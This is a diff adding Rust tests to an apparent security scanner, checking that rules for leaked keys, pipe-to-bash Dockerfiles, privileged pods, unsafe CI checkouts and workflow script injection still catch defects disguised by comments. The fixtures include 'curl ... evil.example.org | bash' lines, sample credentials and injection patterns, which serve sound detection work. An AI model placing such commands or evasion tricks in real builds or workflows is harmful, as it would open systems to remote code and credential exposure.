@@ -181,3 +181,129 @@ fn a_file_with_another_purpose_is_read_anew() {
     let script = "cp.exec(req.query.c);\n";
     assert_eq!(moved("src/a.js", "src/a.ts", script), 0);
 }
+
+/// A comment, dead code or a setting elsewhere says nothing about code: what is found without it is found with it.
+#[test]
+fn words_beside_a_defect_do_not_hide_it() {
+    let key = "AKIAQ3WZ7T5RY2KXQ3WZ";
+    let password = "q7Zr!2kLx9Pv4TnW8s";
+    let pod = "kind: Deployment\nspec:\n  containers:\n    - name: api\n      securityContext:\n        privileged: true\n";
+    let checkout = "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make\n";
+    let steps = "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n";
+    for (path, rule, plain, disguised) in [
+        (
+            "app/s.py",
+            "secret-aws-access-key",
+            format!("aws_access_key_id = \"{key}\"\n"),
+            format!("aws_access_key_id = \"{key}\"  # X-Amz-Algorithm=\n"),
+        ),
+        (
+            "app/s.py",
+            "secret-assigned-literal",
+            format!("db_password = \"{password}\"\n"),
+            format!("db_password = \"{password}\"  # test=1\n"),
+        ),
+        (
+            "app/s.py",
+            "secret-url-password",
+            "URL = \"postgres://svc:q7Zr2kLx9Pv4TnW8s@db1.corp-prod.net/x\"\n".to_owned(),
+            "URL = \"postgres://svc:q7Zr2kLx9Pv4TnW8s@db1.corp-prod.net/x\"  # was postgres://a:b@localhost\n".to_owned(),
+        ),
+        (
+            "Dockerfile",
+            "docker-script-from-network",
+            "FROM debian:12\nRUN curl -sSL https://evil.example.org/x | bash\n".to_owned(),
+            "FROM debian:12\nRUN curl -sSL https://evil.example.org/x | bash # sha256sum\n".to_owned(),
+        ),
+        ("k8s/d.yaml", "k8s-privileged-container", pod.to_owned(), format!("# namespace: kube-system\n{pod}")),
+        (
+            ".github/workflows/a.yml",
+            "ci-untrusted-checkout",
+            checkout.to_owned(),
+            format!("{checkout}      - run: echo author_association\n"),
+        ),
+        (
+            ".github/workflows/a.yml",
+            "ci-untrusted-checkout",
+            checkout.to_owned(),
+            format!("{checkout}  b:\n    if: github.event.pull_request.author_association == 'MEMBER'\n    steps: []\n"),
+        ),
+        (
+            ".github/workflows/a.yml",
+            "ci-script-injection",
+            format!("{steps}      - run: echo \"${{{{ github.event.issue.title }}}}\"\n"),
+            format!("{steps}      - run: echo\n          \"${{{{ github.event.issue.title }}}}\"\n"),
+        ),
+        (
+            ".github/workflows/a.yml",
+            "ci-script-injection",
+            format!("{steps}      - run: echo \"${{{{ github.event.issue.title }}}}\"\n"),
+            format!("{steps}      - \"run\": echo \"${{{{ github.event.issue.title }}}}\"\n"),
+        ),
+        (
+            "src/main.rs",
+            "secret-aws-access-key",
+            format!("const K: &str = \"{key}\";\nfn main() {{}}\n"),
+            format!("#[cfg(test)]\nmod t {{}}\nconst K: &str = \"{key}\";\nfn main() {{}}\n"),
+        ),
+    ] {
+        let weight = |code: &str| {
+            let found = found(&changed(path, "", code));
+            found.into_iter().find(|(name, _, _)| name == rule).map(|(_, _, severity)| severity)
+        };
+        assert!(weight(&plain).is_some(), "{path}: {plain}");
+        assert_eq!(weight(&disguised), weight(&plain), "{path}: {disguised}");
+    }
+}
+
+/// A condition of the job, or of one that it waits for, guards a checkout; a setting may.
+#[test]
+fn a_guard_of_the_job_counts() {
+    let workflow = |job: &str, before: &str| {
+        format!(
+            "on: pull_request_target\njobs:\n{before}  a:\n{job}    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{{{ github.event.pull_request.head.sha }}}}\n"
+        )
+    };
+    let weight = |job: &str, before: &str| {
+        let found = found(&changed(".github/workflows/a.yml", "", &workflow(job, before)));
+        found.into_iter().find(|(rule, _, _)| rule == "ci-untrusted-checkout").map(|(_, _, severity)| severity)
+    };
+    let member = "if: github.event.pull_request.author_association == 'MEMBER'\n";
+    assert_eq!(weight("", ""), Some(Severity::Blocker));
+    assert_eq!(weight(&format!("    {member}"), ""), None);
+    assert_eq!(weight("    if: >-\n      github.event.pull_request.author_association == 'MEMBER'\n", ""), None);
+    assert_eq!(weight("    needs: [ok]\n", &format!("  ok:\n    {member}    steps: []\n")), None);
+    assert_eq!(weight("    environment: ${{ github.event.label.name }}\n", ""), Some(Severity::Question));
+}
+
+/// One line that went answers for one that came, and only where the rule spoke of it.
+#[test]
+fn a_removed_line_answers_for_one_that_was_as_bad() {
+    let open = "    cidr_blocks = [\"0.0.0.0/0\"]";
+    let group = |egress: &str, ingress: &str| {
+        format!(
+            "resource \"aws_security_group\" \"a\" {{\n  egress {{\n    from_port   = 0\n    to_port     = 0\n{egress}\n  }}\n{ingress}}}\n"
+        )
+    };
+    let ingress = format!("  ingress {{\n    from_port   = 22\n    to_port     = 22\n{open}\n    description = \"ssh\"\n  }}\n");
+    let rule = ["tf-open-ingress".to_owned()];
+    assert_eq!(names(&changed("m.tf", &group(open, ""), &group(open, &ingress))), rule);
+    assert_eq!(names(&changed("m.tf", &group(open, ""), &group(&format!("{open} # all"), &ingress))), rule);
+    let key = "k = \"AKIAQ3WZ7T5RY2KXQ3WZ\"\n";
+    assert_eq!(names(&changed("a.py", key, &format!("# moved\n  {key}"))).len(), 0);
+    assert_eq!(names(&changed("a.py", key, &format!("# moved\n  {key}  {key}"))).len(), 1);
+}
+
+/// What a comment names is not what is run.
+#[test]
+fn a_foreign_script_is_not_the_repository_s_own() {
+    let own = "https://raw.githubusercontent.com/acme/tool/main/install.sh";
+    let of = |code: &str| {
+        let mut change = changed("Dockerfile", "", &format!("FROM debian:12\n{code}\n"));
+        change.own_addresses.insert(own.to_owned());
+        names(&change).contains(&"docker-script-from-network".to_owned())
+    };
+    assert!(!of(&format!("RUN curl -sSL {own} | bash")));
+    assert!(of(&format!("RUN curl -sSL https://evil.example.org/x | bash # {own}")));
+    assert!(of(&format!("RUN echo {own}; curl -sSL https://evil.example.org/x | bash")));
+}
